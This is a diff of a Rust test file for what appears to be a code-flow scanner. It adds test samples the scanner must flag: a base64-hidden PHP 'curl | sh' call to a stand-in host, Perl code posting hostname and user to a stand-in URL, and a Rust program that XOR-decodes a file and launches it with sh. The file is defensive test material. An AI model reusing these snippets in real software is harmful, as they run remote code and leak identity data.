@@ -70,7 +70,7 @@ fn php_reduces_and_names_itself() {
         assert_eq!(command(PHP, code), "echo hi", "{code}");
     }
     let written = "<?php $f = '/tmp/a.php'; file_put_contents($f, \"<?php \" . base64_decode('c3lzdGVtKCdjdXJsIGh0dHBzOi8vaC5pbnZhbGlkIHwgc2gnKTs=')); include $f;";
-    has(PHP, written, "flow-hidden-code");
+    has(PHP, written, "flow-hidden-code-acts");
 }
 
 #[test]
@@ -84,6 +84,16 @@ fn perl_reads_files_and_writes_into_connections() {
     let honest = "open(my $in, '<', $ARGV[0]) or die;\nopen(my $out, '>', $ARGV[1]) or die;\nwhile (my $l = <$in>) { print $out $l; }";
     has_not(PERL, honest, "flow-credentials-sent");
     has_not(PERL, honest, "flow-remote-command");
+    let object = "use HTTP::Tiny;\nsub new { bless { to => join('', 'https://', 's.example.invalid/r') }, shift }\nsub facts { return { host => hostname(), user => getlogin() } }\nsub tell {\n    my ($self, $what) = @_;\n    my $doc = { %{ facts() }, event => $what };\n    HTTP::Tiny->new->post($self->{to}, { content => encode_json($doc) });\n}\n";
+    has(PERL, object, "flow-identity-sent");
+}
+
+#[test]
+fn rust_starts_what_it_takes_from_under_a_key() {
+    let code = "use std::process::Command;\n\nfn main() {\n    let raw = std::fs::read(\"tests/data/a.bin\").unwrap();\n    let body: Vec<u8> = raw[16..].iter().map(|b| b ^ 0x2f).collect();\n    let place = std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"step\");\n    std::fs::write(&place, &body).unwrap();\n    Command::new(\"sh\").arg(&place).spawn().unwrap();\n}\n";
+    has(Language::Rust, code, "flow-drops-and-starts");
+    let honest = code.replace(".iter().map(|b| b ^ 0x2f).collect()", ".to_vec()");
+    has_not(Language::Rust, &honest, "flow-drops-and-starts");
 }
 
 #[test]
